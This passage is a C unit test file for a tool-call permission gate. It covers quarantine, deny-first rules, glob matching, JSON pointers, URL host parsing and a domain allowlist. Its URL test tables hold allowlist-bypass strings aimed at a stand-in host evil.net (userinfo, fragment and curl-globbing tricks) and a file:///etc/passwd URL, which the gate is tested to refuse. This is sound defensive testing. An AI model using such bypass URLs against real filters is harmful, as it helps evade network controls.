/* test_gate.c — stage 2: the bail order of the checks, deny-first rules,
 * globs, argument pointers, the risk policy and the domain allowlist, the
 * embedder's checks, session grants and one-shot approval tokens. */
#define _GNU_SOURCE
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>

#include "gate.h"
#include "patchpaths.h"

/* ---- helpers -------------------------------------------------------------- */

static json_t *J(const char *text)
{
	json_error_t je;
	json_t *v = json_loads(text, JSON_DECODE_ANY, &je);
	if (!v)
		fail_msg("bad test JSON %s: %s", text, je.text);
	return v;
}

/* Adds a rule parsed from JSON text to p. */
static void add_rule(struct gate_policy *p, const char *text)
{
	json_t *o = J(text);
	struct tc_error err = { 0 };
	p->rules = realloc(p->rules, (p->nrules + 1) * sizeof *p->rules);
	char where[64];
	snprintf(where, sizeof where, "test: /policy/rules/%zu", p->nrules);
	if (gate_rule_parse(o, where, &p->rules[p->nrules], &err) < 0)
		fail_msg("rule %s: %s: %s", text, err.where, err.msg);
	p->nrules++;
	json_decref(o);
}

static void add_domain(struct gate_policy *p, const char *d)
{
	struct tc_error err = { 0 };
	p->domains = realloc(p->domains, (p->ndomains + 1) * sizeof *p->domains);
	p->domains[p->ndomains] = strdup(d);
	if (domain_check(p->domains[p->ndomains], &err) < 0)
		fail_msg("domain %s: %s", d, err.msg);
	p->ndomains++;
}

static struct gate *gate_of(struct gate_policy *p)
{
	struct gate *g;
	assert_int_equal(gate_new(p, &g, NULL), 0);
	gate_policy_release(p);
	return g;
}

/* A call of tool outside any workspace. A network tool has the URL
 * argument /url, the others none (as the built-in tools). */
static struct gate_call plain_call(const char *tool, enum tc_risk risk)
{
	return (struct gate_call){ .tool = tool,
		                   .risk = risk,
		                   .url_arg = risk == TC_RISK_NETWORK ? "/url" : NULL,
		                   .workspace_fd = -1 };
}

/* Authorizes call with args (takes them) and returns the verdict's action. */
static enum gate_action authorize(struct gate *g, struct gate_call call, json_t *args,
                                  struct gate_verdict *v)
{
	if (!args)
		fail_msg("no args for %s", call.tool);
	call.args = args;
	gate_authorize(g, &call, v);
	json_decref(args);
	return v->action;
}

/* Authorizes tool(args), a plain_call. */
static enum gate_action decide(struct gate *g, const char *tool, enum tc_risk risk,
                               const char *args, struct gate_verdict *v)
{
	return authorize(g, plain_call(tool, risk), J(args), v);
}

static void expect_reason(const struct gate_verdict *v, const char *want)
{
	if (!strstr(v->reason, want))
		fail_msg("reason \"%s\" lacks \"%s\"", v->reason, want);
}

/* ---- the fixture ------------------------------------------------------------ */

/* A workspace: src/a, tmp/ with tmp/lnk -> ../src, gitlink -> .git, and
 * .git/config. */
struct ws_fx {
	char dir[64];
	int fd;
};

static void ws_make(struct ws_fx *w)
{
	char cmd[256];
	snprintf(w->dir, sizeof w->dir, "/tmp/test_gate.XXXXXX");
	assert_non_null(mkdtemp(w->dir));
	snprintf(cmd, sizeof cmd,
	         "cd %s && mkdir -p src tmp .git && echo a > src/a && "
	         "echo > .git/config && ln -s ../src tmp/lnk && ln -s .git gitlink",
	         w->dir);
	assert_int_equal(system(cmd), 0);
	w->fd = open(w->dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	assert_true(w->fd >= 0);
}

static void ws_free(struct ws_fx *w)
{
	char cmd[128];
	close(w->fd);
	snprintf(cmd, sizeof cmd, "rm -rf %s", w->dir);
	assert_int_equal(system(cmd), 0);
}

/* Each test's policy, built into a gate at its first gate(f); the workspace
 * is made for the path tests only (TW). Teardown frees what was made, so a
 * failing assertion leaks nothing. */
struct fx {
	struct gate_policy p;
	struct gate *g;
	struct ws_fx w;
};

static int fx_setup(void **state)
{
	struct fx *f = calloc(1, sizeof *f);
	if (!f)
		return -1;
	gate_policy_init(&f->p);
	f->w.fd = -1;
	*state = f;
	return 0;
}

static int fx_setup_ws(void **state)
{
	if (fx_setup(state) < 0)
		return -1;
	ws_make(&((struct fx *)*state)->w);
	return 0;
}

static int fx_teardown(void **state)
{
	struct fx *f = *state;
	if (f->g)
		gate_free(f->g);
	else
		gate_policy_release(&f->p);
	if (f->w.fd >= 0)
		ws_free(&f->w);
	free(f);
	return 0;
}

#define T(name)  cmocka_unit_test_setup_teardown(name, fx_setup, fx_teardown)
#define TW(name) cmocka_unit_test_setup_teardown(name, fx_setup_ws, fx_teardown)

/* The gate of the test's policy (made once). */
static struct gate *gate(struct fx *f)
{
	if (!f->g)
		f->g = gate_of(&f->p);
	return f->g;
}

/* Frees the test's gate and starts a new default policy for the next. */
static void fx_reset(struct fx *f)
{
	gate_free(f->g);
	f->g = NULL;
	gate_policy_init(&f->p);
}

/* ---- bail order -------------------------------------------------------- */

static int calls_seen;
static enum gate_action counting_check(void *data, const struct gate_call *call,
                                       struct gate_verdict *v)
{
	(void)call, (void)v;
	calls_seen++;
	return *(enum gate_action *)data;
}

static void test_gate_quarantine_denies_before_rules(void **state)
{
	struct fx *f = *state;
	f->p.quarantine = true;
	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"write_file\",\"reason\":\"from rule\"}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{}", &v), GATE_DENY);
	assert_string_equal(v.check, "quarantine");
	expect_reason(&v, "quarantine is on");
}

static void test_gate_quarantine_lets_read_only_through(void **state)
{
	struct fx *f = *state;
	f->p.quarantine = true;
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "read_file", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
	gate_set_quarantine(g, false);
	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{}", &v), GATE_ALLOW);
	gate_set_quarantine(g, true);
	assert_true(gate_quarantined(g));
	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{}", &v), GATE_DENY);
}

static void test_gate_rule_deny_comes_before_policy(void **state)
{
	struct fx *f = *state;
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_DENY;
	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"rm\",\"reason\":\"no rm\"}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_DENY);
	assert_string_equal(v.check, "rules");
	expect_reason(&v, "denied by the rule at test: /policy/rules/0: no rm");
}

static void test_gate_first_deny_bails_before_embedder_checks(void **state)
{
	struct fx *f = *state;
	f->p.levels[TC_RISK_WRITE] = GATE_DENY;
	struct gate *g = gate(f);
	enum gate_action allow = GATE_ALLOW;
	assert_int_equal(gate_add_check(g, "mine", counting_check, &allow, NULL, NULL), 0);
	calls_seen = 0;
	struct gate_verdict v;
	assert_int_equal(decide(g, "w", TC_RISK_WRITE, "{}", &v), GATE_DENY);
	assert_string_equal(v.check, "policy");
	assert_int_equal(calls_seen, 0);
	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
	assert_int_equal(calls_seen, 1);
}

static void test_gate_later_deny_overrides_earlier_ask(void **state)
{
	struct fx *f = *state;
	/* the default policy: destructive calls ask */
	struct gate *g = gate(f);
	enum gate_action deny = GATE_DENY;
	assert_int_equal(gate_add_check(g, "veto", counting_check, &deny, NULL, NULL), 0);
	struct gate_verdict v;
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_DENY);
	assert_string_equal(v.check, "veto");
	expect_reason(&v, "the gate check veto said deny");
}

static void test_gate_ask_keeps_first_asking_reason(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p, "{\"action\":\"ask\",\"tool\":\"rm\",\"reason\":\"rule asks\"}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_ASK);
	assert_string_equal(v.check, "rules");
	expect_reason(&v, "rule asks");
}

static void test_gate_allow_rule_does_not_silence_policy_ask(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p, "{\"action\":\"allow\",\"tool\":\"rm\"}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{}", &v), GATE_ASK);
	assert_string_equal(v.check, "policy");
	expect_reason(&v, "policy.levels.destructive is ask");
}

static void test_gate_embedder_check_disposer_removes_it(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	enum gate_action deny = GATE_DENY;
	struct tc_disposer d;
	assert_int_equal(gate_add_check(g, "veto", counting_check, &deny, &d, NULL), 0);
	struct gate_verdict v;
	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_DENY);
	tc_dispose(&d);
	tc_dispose(&d);
	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
}

static enum gate_action bogus_check(void *data, const struct gate_call *call,
                                    struct gate_verdict *v)
{
	(void)data, (void)call, (void)v;
	return (enum gate_action)42;
}

static void test_gate_invalid_check_answer_denies(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	assert_int_equal(gate_add_check(g, "bogus", bogus_check, NULL, NULL, NULL), 0);
	struct gate_verdict v;
	assert_int_equal(decide(g, "r", TC_RISK_READ_ONLY, "{}", &v), GATE_DENY);
	expect_reason(&v, "invalid answer");
}

/* ---- rules ----------------------------------------------------------------- */

static void test_rules_deny_checked_before_earlier_allow(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p, "{\"action\":\"allow\",\"tool\":\"write_file\"}");
	add_rule(
	        &f->p,
	        "{\"action\":\"deny\",\"tool\":\"write_file\",\"args\":{\"/path\":\"**/.git/**\"}}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{\"path\":\"a/.git/config\"}", &v),
	                 GATE_DENY);
	expect_reason(&v, "/policy/rules/1");
	assert_int_equal(decide(g, "write_file", TC_RISK_WRITE, "{\"path\":\"a/b.txt\"}", &v),
	                 GATE_ALLOW);
	assert_true(v.audit);
}

static void test_rules_first_non_deny_match_wins(void **state)
{
	struct fx *f = *state;
	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
	add_rule(&f->p, "{\"action\":\"allow\",\"tool\":\"rm\",\"args\":{\"/path\":\"tmp/**\"}}");
	add_rule(&f->p, "{\"action\":\"ask\",\"tool\":\"rm\"}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\"tmp/x\"}", &v),
	                 GATE_ALLOW);
	assert_int_equal(decide(g, "rm", TC_RISK_DESTRUCTIVE, "{\"path\":\"src/x\"}", &v),
	                 GATE_ASK);
	expect_reason(&v, "/policy/rules/1");
}

static void test_rules_missing_argument_does_not_match(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"*\",\"args\":{\"/path\":\"**\"}}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"other\":\"x\"}", &v), GATE_ALLOW);
	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"path\":\"\"}", &v), GATE_DENY);
}

static void test_rules_match_numbers_and_bools_as_json_text(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p, "{\"action\":\"deny\",\"args\":{\"/n\":\"1?\",\"/force\":\"true\"}}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"n\":12,\"force\":true}", &v),
	                 GATE_DENY);
	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"n\":123,\"force\":true}", &v),
	                 GATE_ALLOW);
	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"n\":12,\"force\":\"yes\"}", &v),
	                 GATE_ALLOW);
}

static void test_rules_tool_glob_matches_names(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p, "{\"action\":\"deny\",\"tool\":\"net_*\"}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "net_fetch", TC_RISK_READ_ONLY, "{}", &v), GATE_DENY);
	assert_int_equal(decide(g, "fetch_net", TC_RISK_READ_ONLY, "{}", &v), GATE_ALLOW);
}

static void expect_rule_error(const char *text, const char *where, const char *msg)
{
	json_t *o = J(text);
	struct gate_rule r;
	struct tc_error err = { 0 };
	assert_int_equal(gate_rule_parse(o, "f: /policy/rules/0", &r, &err), -1);
	if (strcmp(err.where, where) || !strstr(err.msg, msg))
		fail_msg("got %s: %s; want %s: ...%s...", err.where, err.msg, where, msg);
	json_decref(o);
}

static void test_rule_parse_refuses_bad_rules(void **state)
{
	(void)state;
	expect_rule_error("{\"action\":\"maybe\"}", "f: /policy/rules/0/action", "must be");
	expect_rule_error("{\"tool\":\"x\"}", "f: /policy/rules/0", "needs \"action\"");
	expect_rule_error("{\"action\":\"deny\",\"tol\":\"x\"}", "f: /policy/rules/0/tol",
	                  "unknown key 'tol'");
	expect_rule_error("{\"action\":\"deny\",\"tool\":\"[ab\"}", "f: /policy/rules/0/tool",
	                  "not closed");
	expect_rule_error("{\"action\":\"deny\",\"args\":{\"path\":\"x\"}}",
	                  "f: /policy/rules/0/args/path", "must start with '/'");
	expect_rule_error("{\"action\":\"deny\",\"args\":{\"/a~2\":\"x\"}}",
	                  "f: /policy/rules/0/args/~1a~02", "~0");
	expect_rule_error("{\"action\":\"deny\",\"args\":{\"/p\":3}}",
	                  "f: /policy/rules/0/args/~1p", "glob string");
	expect_rule_error("[]", "f: /policy/rules/0", "must be an object");
}

/* ---- globs ------------------------------------------------------------------- */

static void test_glob_table(void **state)
{
	(void)state;
	static const struct {
		const char *pat, *text;
		bool want;
	} cases[] = {
		{ "**/.git/**", ".git/config", true },
		{ "**/.git/**", "a/.git/x", true },
		{ "**/.git/**", "a/b/c/.git/hooks/pre-commit", true },
		{ "**/.git/**", ".git", true },
		{ "**/.git/**", "a/.git", true },
		{ "**/.git/**", "./.git/x", true },
		{ "**/.git/**", "a//.git/x", true },
		{ "**/.git/**", "/abs/.git/x", true },
		{ "**/.git/**", "a/.gitignore", false },
		{ "**/.git/**", "a/x.git/y", false },
		{ "**/.git/**", ".github/x", false },
		{ "*.txt", "a.txt", true },
		{ "*.txt", "dir/a.txt", false },
		{ "**.txt", "dir/a.txt", true },
		{ "*", ".env", true },
		{ "*", "", true },
		{ "*", "a/b", false },
		{ "a/*/c", "a/b/c", true },
		{ "a/*/c", "a/b/x/c", false },
		{ "a/**/c", "a/c", true },
		{ "a/**/c", "a/b/x/c", true },
		{ "a/**/c", "ac", false },
		{ "a/**/c", "a/xc", false },
		{ "**/.git/**", "x.git", false },
		{ "**/x", "ax", false },
		{ "a/**", "a", true },
		{ "a/**", "a/", true },
		{ "a/**", "ab", false },
		{ "**", "", true },
		{ "**", "x/y/z", true },
		{ "?", "a", true },
		{ "?", "/", false },
		{ "?", "\xc3\xa9", true },
		{ "??", "\xc3\xa9", false },
		{ "[abc]", "b", true },
		{ "[abc]", "d", false },
		{ "[a-c]x", "cx", true },
		{ "[!a-c]", "d", true },
		{ "[^a-c]", "a", false },
		{ "[!a]", "/", false },
		{ "[]]", "]", true },
		{ "[a-]", "-", true },
		{ "\\*", "*", true },
		{ "\\*", "a", false },
		{ "src/*.c", "src/main.c", true },
		{ "src/*.c", "src/main.h", false },
		{ "exact", "exact", true },
		{ "exact", "exactly", false },
		{ "Case", "case", false },
		{ "\xc3\xa9t\xc3\xa9", "\xc3\xa9t\xc3\xa9", true },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		bool got = glob_match(cases[i].pat, cases[i].text, strlen(cases[i].text));
		if (got != cases[i].want)
			fail_msg("glob \"%s\" vs \"%s\": got %d, want %d", cases[i].pat,
			         cases[i].text, got, cases[i].want);
	}
}

static void test_glob_is_linear_on_hostile_input(void **state)
{
	(void)state;
	/* Backtracking matchers take exponential time on this; the NFA does not. */
	char text[4097];
	memset(text, 'a', 4096);
	text[4096] = '\0';
	assert_false(glob_match("*a*a*a*a*a*a*a*a*a*a*b", text, 4096));
	for (int i = 0; i < 4096; i += 2)
		text[i] = '/';
	assert_false(glob_match("**/a/**/a/**/a/**/a/**/b", text, 4096));
}

static void test_glob_check_refuses_bad_patterns(void **state)
{
	(void)state;
	struct tc_error err = { 0 };
	assert_int_equal(glob_check("[abc", &err), -1);
	assert_int_equal(glob_check("abc\\", &err), -1);
	assert_int_equal(glob_check("\xff", &err), -1);
	char big[GLOB_MAX + 2];
	memset(big, 'a', sizeof big - 1);
	big[sizeof big - 1] = '\0';
	assert_int_equal(glob_check(big, &err), -1);
	assert_false(glob_match(big, big, strlen(big)));
	assert_int_equal(glob_check("**/x/[a-z]?", &err), 0);
}

/* ---- JSON pointers -------------------------------------------------------- */

static void test_pointer_finds_nested_and_escaped_keys(void **state)
{
	(void)state;
	json_t *doc = J("{\"a\":{\"b\":[10,{\"c\":\"deep\"}]},\"x/y\":1,\"m~n\":2,\"\":3}");
	assert_string_equal(json_string_value(jsonptr_get(doc, "/a/b/1/c")), "deep");
	assert_int_equal(json_integer_value(jsonptr_get(doc, "/a/b/0")), 10);
	assert_int_equal(json_integer_value(jsonptr_get(doc, "/x~1y")), 1);
	assert_int_equal(json_integer_value(jsonptr_get(doc, "/m~0n")), 2);
	assert_int_equal(json_integer_value(jsonptr_get(doc, "/")), 3);
	assert_ptr_equal(jsonptr_get(doc, ""), doc);
	assert_null(jsonptr_get(doc, "/a/b/2"));
	assert_null(jsonptr_get(doc, "/a/b/01"));
	assert_null(jsonptr_get(doc, "/a/b/-1"));
	assert_null(jsonptr_get(doc, "/x/y"));
	assert_null(jsonptr_get(doc, "/a/zz"));
	assert_null(jsonptr_get(doc, "a"));
	assert_null(jsonptr_get(doc, "/m~2n"));
	json_decref(doc);
}

static void test_rules_match_escaped_pointer_arguments(void **state)
{
	struct fx *f = *state;
	add_rule(&f->p, "{\"action\":\"deny\",\"args\":{\"/opts/a~1b\":\"x*\"}}");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"opts\":{\"a/b\":\"xyz\"}}", &v),
	                 GATE_DENY);
	assert_int_equal(decide(g, "t", TC_RISK_READ_ONLY, "{\"opts\":{\"a\":{\"b\":\"xyz\"}}}",
	                        &v),
	                 GATE_ALLOW);
}

/* ---- URL hosts and domains ---------------------------------------------- */

/* A socket's address as the server's lines and audit events write it. */
static void test_sockaddr_text_brackets_ipv6(void **state)
{
	(void)state;
	char t[SOCKADDR_TEXT_MAX];
	struct sockaddr_in a4 = { .sin_family = AF_INET, .sin_port = htons(8080) };
	a4.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	assert_int_equal(sockaddr_port((struct sockaddr *)&a4), 8080);
	sockaddr_text((struct sockaddr *)&a4, 8080, t);
	assert_string_equal(t, "127.0.0.1:8080");
	struct sockaddr_in6 a6 = { .sin6_family = AF_INET6, .sin6_port = htons(65535) };
	a6.sin6_addr = in6addr_loopback;
	assert_int_equal(sockaddr_port((struct sockaddr *)&a6), 65535);
	sockaddr_text((struct sockaddr *)&a6, sockaddr_port((struct sockaddr *)&a6), t);
	assert_string_equal(t, "[::1]:65535");
	struct sockaddr un = { .sa_family = AF_UNIX };
	assert_int_equal(sockaddr_port(&un), 0);
	sockaddr_text(&un, 1, t);
	assert_string_equal(t, "?");
}

static void test_url_host_table(void **state)
{
	(void)state;
	static const struct {
		const char *url, *host;
	} cases[] = {
		{ "https://example.com/x", "example.com" },
		{ "https://EXAMPLE.com", "example.com" },
		{ "http://example.com:8080/p?q#f", "example.com" },
		{ "http://evil.net#@example.com/", "evil.net" },
		{ "http://evil.net?@example.com/", "evil.net" },
		{ "http://[::1]:8080/", "::1" },
		{ "http://example.com/%7Ba,b%7D?x=%5B1%5D", "example.com" }, /* encoded: fine */
		{ "http://example.com/a@b?c=@d#@e", "example.com" }, /* '@' after the host */
		{ "http://[FE80::1]/", "fe80::1" },
		{ "https://example.com./", "example.com" },
		{ "ftp://files.example.org", "files.example.org" },
		{ "http://127.0.0.1/", "127.0.0.1" },
		/* refused: NULL host */
		{ "example.com/x", NULL },
		{ "https:///x", NULL },
		{ "https://exa mple.com/", NULL },
		{ "https://example.com\n/", NULL },
		{ "http://evil.net\\@example.com/", NULL },
		{ "http://a@b@example.com/", NULL },
		/* userinfo: parsers disagree on where it ends */
		{ "http://user:pw@example.com/", NULL },
		{ "http://example.com@evil.net/", NULL },
		{ "http://example.com:80@evil.net/", NULL },
		{ "http://@example.com/", NULL },
		/* curl's URL globbing: one argument, several URLs */
		{ "http://{x@example.com/,y@evil.net/}", NULL },
		{ "http://{example.com,evil.net}/", NULL },
		{ "http://example.com/{a,b}", NULL },
		{ "http://example.com/file[1-3].txt", NULL },
		{ "http://ex[a-z]mple.com/", NULL },
		{ "http://[::1]/x[1]", NULL },
		{ "http://example.com/?q=]", NULL },
		{ "http://%65vil.net/", NULL },
		{ "http://\xc3\xa9xample.com/", NULL },
		{ "http://example.com:0/", NULL },
		{ "http://example.com:65536/", NULL },
		{ "http://example.com:/", NULL },
		{ "http://example.com:8o/", NULL },
		{ "http://[::1/", NULL },
		{ "http://[::1]x/", NULL },
		{ "http://[zz::1]/", NULL },
		{ "http://[1.2.3.4]/", NULL }, /* not an IPv6 address at all */
		{ "http://[:::]/", NULL },
		{ "file:///etc/passwd", NULL },
		{ "", NULL },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char host[URL_HOST_MAX + 1], why[160] = "";
		int rc = url_host(cases[i].url, host, NULL, why, sizeof why);
		if (cases[i].host && (rc != 0 || strcmp(host, cases[i].host)))
			fail_msg("%s: got rc %d host \"%s\" (%s), want \"%s\"", cases[i].url, rc,
			         host, why, cases[i].host);
		if (!cases[i].host && (rc != -1 || !why[0]))
			fail_msg("%s: accepted as \"%s\", want a refusal", cases[i].url, host);
	}
}

/* The port a URL names, read by the parser that reads its host: what the
 * gate's advice and an approved call's reach name. */
static void test_url_host_gives_the_port(void **state)
{
	(void)state;
	static const struct {
		const char *url, *host;
		uint16_t port; /* 0: none named */
	} cases[] = {
		{ "http://example.com:8080/p?q#f", "example.com", 8080 },
		{ "https://example.com/x", "example.com", 0 },
		{ "https://example.com", "example.com", 0 },
		{ "http://example.com:1", "example.com", 1 },
		{ "http://example.com:65535?x", "example.com", 65535 },
		{ "http://example.com:00080#f", "example.com", 80 },
		{ "http://example.com/a:9", "example.com", 0 }, /* a colon in the path */
		{ "http://example.com?a:9", "example.com", 0 },
		{ "http://[::1]:8080/", "::1", 8080 },
		{ "http://[::1]/", "::1", 0 },
		{ "http://[2001:db8::7]:443", "2001:db8::7", 443 },
		{ "http://127.0.0.1:8000/a:9", "127.0.0.1", 8000 },
		/* refused: no host, and the port 0 */
		{ "http://user@example.com:8080/", NULL, 0 },
		{ "http://user:8080@example.com/", NULL, 0 },
		{ "http://example.com:8080@evil.net:9090/", NULL, 0 },
		{ "http://[::1]:8080@evil.net/", NULL, 0 },
		{ "http://example.com:65536/", NULL, 0 },
		{ "http://example.com:99999/", NULL, 0 },
		{ "http://example.com:123456/", NULL, 0 },
		{ "http://[::1]:70000/", NULL, 0 },
		{ "http://example.com:0/", NULL, 0 },
		{ "http://example.com:/", NULL, 0 },
		{ "http://example.com:80x/", NULL, 0 },
		{ "http://example.com:80:81/", NULL, 0 },
		{ "http://example.com:-80/", NULL, 0 },
		{ "http://example.com:+80/", NULL, 0 },
		{ "http://[::1]x/", NULL, 0 },
		{ "http://[::1]:80x/", NULL, 0 },
		{ "http://[::1]]:80/", NULL, 0 },
		{ "http://::1:80/", NULL, 0 }, /* IPv6 without brackets */
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char host[URL_HOST_MAX + 1], why[160] = "";
		uint16_t port = 12345;
		int rc = url_host(cases[i].url, host, &port, why, sizeof why);
		if (cases[i].host &&
		    (rc != 0 || strcmp(host, cases[i].host) || port != cases[i].port))
			fail_msg("%s: got rc %d host \"%s\" port %u (%s), want \"%s\" port %u",
			         cases[i].url, rc, host, port, why, cases[i].host, cases[i].port);
		if (!cases[i].host && (rc != -1 || !why[0] || port != 0))
			fail_msg("%s: accepted as \"%s\" port %u, want a refusal", cases[i].url,
			         host, port);
	}
}

/* A host as a URL writes it before ":PORT". */
static void test_url_host_bracketed_brackets_ipv6_only(void **state)
{
	(void)state;
	char b[URL_HOST_BRACKETED_MAX];
	assert_string_equal(url_host_bracketed("::1", b), "[::1]");
	assert_string_equal(url_host_bracketed("2001:db8::7", b), "[2001:db8::7]");
	assert_string_equal(url_host_bracketed("example.com", b), "example.com");
	assert_string_equal(url_host_bracketed("127.0.0.1", b), "127.0.0.1");
	char longest[URL_HOST_MAX + 1];
	memset(longest, 'a', URL_HOST_MAX);
	longest[URL_HOST_MAX] = '\0';
	assert_string_equal(url_host_bracketed(longest, b), longest);
}

static void test_domain_allowlist_table(void **state)
{
	(void)state;
	char d1[] = "example.com", d2[] = "*.corp.example", d3[] = "::1";
	char *list[] = { d1, d2, d3 };
	static const struct {
		const char *host;
		bool want;
	} cases[] = {
		{ "example.com", true },
		{ "sub.example.com", false }, /* exact entries: no subdomains */
		{ "evil-example.com", false },
		{ "example.com.evil.net", false },
		{ "a.corp.example", true },
		{ "a.b.corp.example", true },
		{ "corp.example", false }, /* *.suffix: not the bare suffix */
		{ "evilcorp.example", false },
		{ "::1", true },
		{ "0:0:0:0:0:0:0:1", true }, /* IPv6 by value, not by spelling */
		{ "0::1", true },
		{ "::2", false },
		{ "", false },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		if (domain_allowed(cases[i].host, list, 3) != cases[i].want)
			fail_msg("host \"%s\": want %d", cases[i].host, cases[i].want);
	/* A wildcard names hosts, never addresses (curl reads all of these
	 * as IPv4). */
	char w1[] = "*.0.1", w2[] = "*.1", w3[] = "*.example.com";
	char *wild[] = { w1, w2, w3 };
	static const char *const addresses[] = { "127.0.0.1", "10.0.0.1", "0x7f.1", "127.1",
		                                 "1.2.3.4.1" };
	for (size_t i = 0; i < sizeof addresses / sizeof addresses[0]; i++)
		if (domain_allowed(addresses[i], wild, 3))
			fail_msg("address \"%s\" matched a wildcard", addresses[i]);
	assert_true(domain_allowed("a.example.com", wild, 3));
	assert_true(domain_allowed("x1.example.com", wild, 3));
}

static void test_domain_check_normalizes_and_refuses(void **state)
{
	(void)state;
	char a[] = "Example.COM.", b[] = "[::1]", c[] = "*.Sub.Example.com";
	assert_int_equal(domain_check(a, NULL), 0);
	assert_string_equal(a, "example.com");
	assert_int_equal(domain_check(b, NULL), 0);
	assert_string_equal(b, "::1");
	assert_int_equal(domain_check(c, NULL), 0);
	assert_string_equal(c, "*.sub.example.com");
	const char *bad[] = { "*",
		              "*example.com",
		              "https://example.com",
		              "example.com:443",
		              "example.com/x",
		              "a..b",
		              ".example.com",
		              "",
		              "*.",
		              ":::",
		              "1:2" };
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		char buf[64];
		snprintf(buf, sizeof buf, "%s", bad[i]);
		struct tc_error err = { 0 };
		if (domain_check(buf, &err) != -1)
			fail_msg("accepted domain entry \"%s\"", bad[i]);
	}
}

static void test_network_policy_uses_allowlist(void **state)
{
	struct fx *f = *state;
	add_domain(&f->p, "example.com");
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"url\":\"https://example.com/a\"}",
	                        &v),
	                 GATE_ALLOW);
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK,
	                        "{\"url\":\"http://evil.net/#@example.com\"}", &v),
	                 GATE_DENY);
	expect_reason(&v, "host evil.net is not on the domain allowlist");
	expect_reason(&v, "adding \"evil.net\" to policy.domains in toolcage.json");
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK,
	                        "{\"url\":\"http://example.com@evil.net/\"}", &v),
	                 GATE_DENY);
	expect_reason(&v, "user name or password");
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK,
	                        "{\"url\":\"http://{x@example.com/,y@evil.net/}\"}", &v),
	                 GATE_DENY);
	expect_reason(&v, "globbing");
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"url\":\"not a url\"}", &v),
	                 GATE_DENY);
	expect_reason(&v, "cannot be used");
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"other\":1}", &v), GATE_DENY);
	expect_reason(&v, "missing");
}

static void test_network_policy_empty_allowlist_denies(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK, "{\"url\":\"https://example.com\"}",
	                        &v),
	                 GATE_DENY);
	expect_reason(&v, "allowlist (policy.domains) is empty");
	expect_reason(&v, "adding \"example.com\" to policy.domains in toolcage.json");
}

/* policy.domains lets the egress reach ports 80 and 443 only: for a URL on
 * another port the advice names the policy.network.allow entry too, or
 * the user would follow it to the next refusal. */
static void test_network_policy_denial_names_the_port_entry(void **state)
{
	struct fx *f = *state;
	struct gate *g = gate(f);
	struct gate_verdict v;
	assert_int_equal(decide(g, "fetch", TC_RISK_NETWORK,
	                        "{\"url\":\"http://127.0.0.1:8000/a:9\"}", &v),
	                 GATE_DENY);
	expect_reason(&v,
	              "adding \"127.0.0.1\" to policy.domains, and \"127.0.0.1:8000\" to "
	              "policy.network.allow for its port 8000 in toolcage.json");
